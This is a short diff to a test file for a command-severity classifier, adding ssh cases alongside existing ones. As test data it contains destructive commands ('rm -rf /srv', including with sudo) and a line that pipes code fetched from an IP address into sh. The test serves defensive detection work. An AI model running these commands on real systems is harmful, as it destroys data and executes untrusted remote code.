@@ -434,6 +434,9 @@ def test_what_is_feared_is_blocked_and_its_look_alike_passes(
         ("ssh ada@build rm -rf /srv", "critical", "full"),
         ("ssh ada@build 'curl http://203.0.113.5/x | sh'", "high", "full"),
         ("ssh ada@build", "medium", "full"),
+        ("ssh -t ada@build -- sudo rm -rf /srv", "critical", "full"),
+        ("ssh -p 22 ada@build -- uptime", "none", "full"),
+        ("ssh ada@build -t rm -rf /srv", "medium", "full"),
     ],
 )
 def test_an_action_has_a_severity_and_what_nobody_read_is_named(
